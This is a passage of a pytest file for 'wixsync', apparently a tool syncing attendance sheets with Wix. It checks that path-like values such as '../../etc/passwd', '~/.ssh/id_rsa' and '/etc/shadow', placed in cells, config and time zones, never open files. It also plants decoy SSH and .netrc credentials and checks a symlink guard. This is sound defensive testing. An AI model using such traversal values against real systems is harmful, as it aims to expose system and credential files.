    books or reports each row and opens nothing but the run's folder and Python's own.

    The home folder holds decoys: a key, and a ``.netrc`` whose ``default`` entry requests
    would send (HTTP Basic, in place of the API key and the bearer token) to any host, Wix
    and Google included, unless told the call has its own auth."""
    home = tmp_path / "home"  # "~" during the cycle
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("not a key")
    (home / ".netrc").write_text("default login owner password not-for-wix\n")
    (home / ".netrc").chmod(0o600)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.delenv("NETRC", raising=False)
    world = World(tmp_path / "world", path_like_rows())
    human = world.human()
    human.rename("../../etc/passwd")  # the tab's title, as a volunteer may rename it
    audit = FileAudit.get()
    with audit.recording() as events:
        world.cycle()
    human.rename(TAB)
    assert_stays_home(events, world.folder)
    written, read = FileAudit.touched(events)
    assert world.state_path in written
    assert world.credentials in read
    assert not [p for p in written | read if inside(p, {home.resolve()})]
    statuses = [r["Status"] for r in world.records()]
    errors = " ".join(r["Error"] for r in world.records())
    assert [undated(s) for s in statuses].count("Booked · paid cash · checked in") >= len(PATH_LIKE)
    assert "No class called '../../etc/passwd'" in errors
    assert "does not hold a plan called '~/.ssh/id_rsa'" in errors


# The configured paths are exactly four, each relative to the folder holding the config file
# (``~`` expanded), symlinks resolved: ``[sheet] file``, ``[sheet] credentials``, ``[daemon]
# state`` — with the files wixsync keeps beside it (``-wal``, ``-shm``, ``-journal``,
# ``.lock``, and ``sandbox.json`` in sandbox mode) — and ``[daemon] log``. Every other value
# is a word, a name, a URL or an id, and must never become a path. Where they point is the
# owner's choice (an absolute path anywhere is accepted); tests/test_config.py proves the
# resolution, a folder refused, and that the state never overwrites the sheet, the key or
# the config.
CLUB_CONFIG = """\
[sheet]
file = "attendance.csv"

[columns.name]
header = "../../etc/passwd"

[vocabulary]
payment = {{ cash = ["~/.ssh/id_rsa"] }}
attended_yes = ["/etc/shadow"]

[classes]
"file:///etc/passwd" = "Open Water Swim"

[wix]
sandbox = true
time_zone = "{time_zone}"

[daemon]
state = "state/state.sqlite3"
"""


def test_config_values_that_look_like_paths_stay_words(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A header, payment and attended words and a class name written as paths are matched
    as words (the row is booked), and the cycle touches only the config's folder."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    folder = tmp_path / "club"
    folder.mkdir()
    (folder / "wixsync.toml").write_text(CLUB_CONFIG.format(time_zone="America/Denver"))
    header = [*HEADER[:3], "../../etc/passwd", *HEADER[4:]]
    row = [today_label(), "", "file:///etc/passwd", "Pat Path", "pat.path@example.org"]
    row += ["~/.ssh/id_rsa", "", "/etc/shadow"]  # Payment, Plan, Attended
    LocalSheet(folder / "attendance.csv").create([header, row])
    audit = FileAudit.get()
    with audit.recording() as events:
        config = load_config(folder / "wixsync.toml")
        with open_runtime(settings_from_config(config)) as runtime:
            report = runtime.engine.run_cycle()
    assert (config.sheet_path, config.credentials_path, config.log_path) == (
        folder / "attendance.csv",
        None,
        None,
    )
    assert config.state_path == folder / "state" / "state.sqlite3"
    assert config.classes == {"file:///etc/passwd": "Open Water Swim"}
    [outcome] = report.outcomes.values()
    assert outcome.status == "Booked · paid cash · checked in"
    assert_stays_home(events, folder)
    written, _read = FileAudit.touched(events)
    assert {folder / "attendance.csv", config.state_path} <= written
    assert folder / "state" / "sandbox.json" in written


@pytest.mark.parametrize("zone", ["../../../../etc/passwd", "/etc/passwd"])
def test_a_time_zone_cannot_name_a_file(tmp_path: Path, zone: str) -> None:
    """``time_zone`` is looked up in the time-zone database, never opened as a path."""
    (tmp_path / "wixsync.toml").write_text(CLUB_CONFIG.format(time_zone=zone))
    with FileAudit.get().recording() as events, pytest.raises(ConfigError) as refused:
        load_config(tmp_path / "wixsync.toml", check_files=False)
    assert f'time_zone = "{zone}": not a time zone' in str(refused.value)
    _written, read = FileAudit.touched(events)
    assert [p for p in read if not inside(p, {tmp_path.resolve(), *python_roots()})] == []
    assert not [p for p in read if "passwd" in str(p)]


@posix_only
def test_a_symlinked_state_cannot_overwrite_the_key_file(tmp_path: Path) -> None:
    """Paths are compared after resolving symlinks: a state "file" that is a link to the
    service account's key is the key."""
    (tmp_path / "service-account.json").write_text("{}")
    (tmp_path / "state.sqlite3").symlink_to(tmp_path / "service-account.json")
    (tmp_path / "wixsync.toml").write_text(
        GOOGLE_CONFIG.format(sheet="", wix="") + '\n[daemon]\nstate = "state.sqlite3"\n'
    )
    with pytest.raises(ConfigError) as refused:
        load_config(tmp_path / "wixsync.toml", check_files=False)
    assert "[daemon] state is the same file as [sheet] credentials" in str(refused.value)


@pytest.mark.parametrize(
    ("sheet", "daemon", "where", "name"),
    [
        ('credentials = "state/state.sqlite3.lock"', "", "[sheet] credentials", ".lock"),
        ('credentials = "state/state.sqlite3-wal"', "", "[sheet] credentials", "-wal"),
        ('credentials = "k.json"', 'log = "state/state.sqlite3-shm"', "[daemon] log", "-shm"),
        ('credentials = "state/sandbox.json"', "", "[sheet] credentials", "sandbox.json"),
    ],
)
def test_no_configured_file_is_one_wixsync_writes_beside_the_state(
    tmp_path: Path, sheet: str, daemon: str, where: str, name: str
) -> None:
    """The lock is truncated, SQLite owns its WAL and SHM, and sandbox mode rewrites
    ``sandbox.json``: a key file or a log there would be destroyed."""
    text = GOOGLE_CONFIG.format(sheet="", wix="sandbox = true")
    text = text.replace('credentials = "service-account.json"', sheet)
    (tmp_path / "wixsync.toml").write_text(
        f'{text}\n[daemon]\nstate = "state/state.sqlite3"\n{daemon}\n'
    )
    with pytest.raises(ConfigError) as refused:
        load_config(tmp_path / "wixsync.toml", check_files=False)
    file = name if name == "sandbox.json" else f"state.sqlite3{name}"
    assert str(refused.value) == (
        f"{tmp_path / 'wixsync.toml'}: {where} is {file}, a file wixsync writes beside "
        "[daemon] state; use another"
    )
